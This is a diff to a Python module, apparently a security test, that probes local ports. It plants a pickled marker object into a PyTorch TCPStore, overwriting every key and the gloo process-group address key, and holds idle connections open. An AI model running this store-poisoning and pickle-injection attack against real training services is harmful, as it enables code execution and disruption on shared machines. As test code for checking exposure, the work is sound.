@@ -27,6 +27,7 @@ from typing import Any
 from torch.distributed import TCPStore  # type: ignore[attr-defined]  # exported at run time
 
 _CONNECT_S = 0.5
+_KEY = "default_pg/0//cpu//0/0"  # gloo reads an address from such a key
 _HELD = 20  # connections that stay open and send nothing
 _STORE_MAGIC = struct.pack("<BI", 0, 0x3C85F7CE)  # first bytes of a TCPStore client
 
@@ -44,7 +45,7 @@ class _Plant:
 def _messages(marker: str) -> list[bytes]:
     """Return messages that another user may send to a port with an unknown protocol."""
     plant = pickle.dumps(_Plant(marker))
-    key = b"default_pg/0//cpu//0/0"
+    key = _KEY.encode()
     set_key = b"\x01" + struct.pack("<Q", len(key)) + key + struct.pack("<Q", len(plant)) + plant
     return [
         b"",
@@ -80,13 +81,14 @@ def _attack_port(port: int, message: bytes, held: list[socket.socket]) -> str:
 
 
 def _attack_store(port: int, plant: bytes) -> str:
-    """Read and replace every key, where a TCPStore answers."""
+    """Read and replace every key, where a TCPStore answers. The store for the user's own programs does, and holds
+    nothing of the session: only the key that an earlier attack has set there."""
     try:
         store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
-        keys = store.list_keys()
+        keys = set(store.list_keys()) - {_KEY}
         for key in keys:
             store.set(key, plant)  # type: ignore[arg-type]  # bytes too
-        store.set("default_pg/0//cpu//0/0", plant)  # type: ignore[arg-type]
+        store.set(_KEY, plant)  # type: ignore[arg-type]
         return "store keys replaced" if keys else "store key set"
     except Exception:  # torch raises several kinds, and the target may end at any time
         return "store refused"
